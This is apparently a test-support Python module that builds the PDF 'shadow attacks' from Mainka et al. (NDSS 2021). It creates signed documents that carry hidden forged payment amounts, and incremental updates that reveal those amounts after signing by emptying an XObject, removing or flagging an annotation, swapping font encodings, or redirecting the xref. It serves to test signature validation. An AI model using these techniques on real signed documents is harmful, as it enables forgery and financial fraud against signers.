"""Shadow attacks: hide, replace, hide-and-replace (Mainka et al., NDSS 2021).

From Mainka, Mladenov, Rohlmann, "Shadow Attacks: Hiding and Replacing Content in
Signed PDFs", NDSS 2021 (building on the incremental saving attacks of Mladenov et al.,
"1 Trillion Dollar Refund", ACM CCS 2019). The attacker prepares the document the victim
signs so that it already holds the shadow content, invisible; after signing, an
incremental update that looks harmless (an object redefined, an annotation removed, a
font swapped, only an xref) reveals it. The ``*_signed`` functions build those prepared,
validly signed documents; the others are the updates.

Example::

    forged = shadow_hide_xobject(shadow_hide_xobject_signed())   # the cover is emptied
"""

from __future__ import annotations

import re

from pyhanko.pdf_utils import generic

from tests.support.attacks._base import (
    _CATALOG,
    _PAGES,
    FORGED,
    GENUINE,
    HELVETICA,
    TITLE,
    _page,
    _page_ref,
    _reader,
    _size,
    _trailer_for_update,
    _xref_section,
    amount_line,
    append_update,
    build_pdf,
    last_startxref,
    serialize,
    sign,
    stream,
)

_COVER_BOX = b"[60 728 420 760]"


def shadow_hide_xobject_signed() -> bytes:
    """The signed "hide" document: the forged amount is drawn first, then a form
    XObject (object 6) paints a white box with the genuine amount over it."""
    cover = stream(b"1 1 1 rg 60 728 360 32 re f 0 g\n" + amount_line(GENUINE),
                   b"/Type /XObject /Subtype /Form /BBox " + _COVER_BOX
                   + b" /Resources << /Font << /F1 5 0 R >> >> ")
    content = TITLE + amount_line(FORGED) + b"q /Cover Do Q\n"
    page = _page(b"/Font << /F1 5 0 R >> /XObject << /Cover 6 0 R >>")
    return sign(build_pdf([(1, _CATALOG), (2, _PAGES), (3, page), (4, stream(content)),
                           (5, HELVETICA), (6, cover)]))


def shadow_hide_xobject(signed: bytes) -> bytes:
    """Shadow hide (hide via referenced object): the update redefines the covering
    form XObject as empty, uncovering the forged amount."""
    empty = stream(b"", b"/Type /XObject /Subtype /Form /BBox " + _COVER_BOX + b" ")
    return append_update(signed, {6: empty})


def shadow_hide_annotation_signed() -> bytes:
    """The signed "hide" document: the page content shows the forged amount, covered
    by a printable Stamp annotation (object 6, appearance object 7) whose appearance
    is a white box with the genuine amount."""
    appearance = stream(b"1 1 1 rg 0 0 360 32 re f 0 g\n"
                        b"BT /F1 12 Tf 12 12 Td (Chi tra so tien: 1.000.000 VND) Tj ET",
                        b"/Type /XObject /Subtype /Form /BBox [0 0 360 32] "
                        b"/Resources << /Font << /F1 5 0 R >> >> ")
    annot = (b"<< /Type /Annot /Subtype /Stamp /Rect " + _COVER_BOX
             + b" /F 4 /P 3 0 R /AP << /N 7 0 R >> /NM (cover) >>")
    page = _page(extra=b"/Annots [6 0 R] ")
    return sign(build_pdf([(1, _CATALOG), (2, _PAGES), (3, page),
                           (4, stream(TITLE + amount_line(FORGED))), (5, HELVETICA),
                           (6, annot), (7, appearance)]))


def shadow_hide_annotation_removed(signed: bytes) -> bytes:
    """Shadow hide via an overlay annotation: the update removes the covering annotation
    from the page's /Annots (the signature widget stays)."""
    page_ref = _page_ref(signed)
    page = _reader(signed).root["/Pages"]["/Kids"][0]
    annots = [a for a in page.raw_get("/Annots") if a.idnum != 6]
    body = serialize(page)
    body = re.sub(rb"/Annots \[[^\]]*\]",
                  b"/Annots [ " + b" ".join(b"%d 0 R" % a.idnum for a in annots) + b" ]", body)
    return append_update(signed, {page_ref.idnum: body})


def shadow_hide_annotation_flagged(signed: bytes) -> bytes:
    """Shadow hide via an overlay annotation: the update sets the covering annotation's
    Hidden flag (ISO 32000-1 §12.5.3, bit 2) instead of removing it."""
    annot = serialize(_reader(signed).get_object(generic.Reference(6, 0)))
    return append_update(signed, {6: annot.replace(b"/F 4", b"/F 6")})


def shadow_replace_font(signed: bytes) -> bytes:
    """Shadow replace (replace via overwrite): the update redefines the font the amount
    is set in; its /Differences draw glyph "nine" for code 49 ("1"), so the unchanged
    content stream now reads 9.000.000."""
    font = _reader(signed).root["/Pages"]["/Kids"][0]["/Resources"]["/Font"].raw_get("/F1")
    swapped = (b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding "
               b"<< /Type /Encoding /BaseEncoding /WinAnsiEncoding /Differences [49 /nine] >> >>")
    return append_update(signed, {font.idnum: swapped})


def shadow_overlay_signed() -> bytes:
    """The signed "replace via overlay" document: the page draws an (empty) form
    XObject (object 6) over the amount; nothing of it is visible when signing."""
    empty = stream(b"", b"/Type /XObject /Subtype /Form /BBox " + _COVER_BOX
                   + b" /Resources << /Font << /F1 5 0 R >> >> ")
    content = TITLE + amount_line(GENUINE) + b"q /Overlay Do Q\n"
    page = _page(b"/Font << /F1 5 0 R >> /XObject << /Overlay 6 0 R >>")
    return sign(build_pdf([(1, _CATALOG), (2, _PAGES), (3, page), (4, stream(content)),
                           (5, HELVETICA), (6, empty)]))


def shadow_replace_overlay(signed: bytes) -> bytes:
    """Shadow replace via overlay: the update fills the (signed, empty) overlay XObject
    with a white box and the forged amount."""
    cover = stream(b"1 1 1 rg 60 728 360 32 re f 0 g\n" + amount_line(FORGED),
                   b"/Type /XObject /Subtype /Form /BBox " + _COVER_BOX
                   + b" /Resources << /Font << /F1 5 0 R >> >> ")
    return append_update(signed, {6: cover})


def shadow_hide_and_replace_signed() -> bytes:
    """The signed "hide-and-replace" document: a shadow definition of the content
    stream (object 4, forged amount) sits in the signed bytes before the real one;
    the xref points at the real one, so the victim sees and signs the genuine amount."""
    return sign(build_pdf([(4, stream(TITLE + amount_line(FORGED))),
                           (1, _CATALOG), (2, _PAGES), (3, _page()),
                           (4, stream(TITLE + amount_line(GENUINE))), (5, HELVETICA)]))


def shadow_hide_and_replace_xref_only(signed: bytes) -> bytes:
    """Shadow hide-and-replace: the update holds no object at all, only an xref
    section that maps object 4 to the shadow definition inside the signed bytes, and
    a trailer. Nothing new is "added"; the document shown changes."""
    shadow = signed.index(b"4 0 obj\n")
    assert FORGED in signed[shadow:shadow + 300]
    out = bytearray(signed)
    at = len(out)
    out += _xref_section({4: shadow}, with_free_head=False)
    out += _trailer_for_update(signed, size=_size(signed), prev=last_startxref(signed))
    out += b"startxref\n%d\n%%%%EOF\n" % at
    return bytes(out)


def shadow_hide_and_replace_full(signed: bytes) -> bytes:
    """Shadow hide-and-replace, full set: the update redefines every object of the
    document (catalog, page tree, page, content, font) with a replacement set and a new
    xref; the catalog keeps the AcroForm, the page keeps the signature widget."""
    reader = _reader(signed)
    root_ref = reader.root_ref
    catalog = reader.root
    pages_ref = catalog.raw_get("/Pages")
    page_ref = _page_ref(signed)
    page = catalog["/Pages"]["/Kids"][0]
    content_ref = page.raw_get("/Contents")
    font_ref = page["/Resources"]["/Font"].raw_get("/F1")
    return append_update(signed, {
        root_ref.idnum: serialize(catalog),
        pages_ref.idnum: serialize(catalog["/Pages"]),
        page_ref.idnum: serialize(page),
        content_ref.idnum: stream(TITLE.replace(b"45", b"46") + amount_line(FORGED)),
        font_ref.idnum: HELVETICA.replace(b"/Helvetica", b"/Helvetica-Bold"),
    })
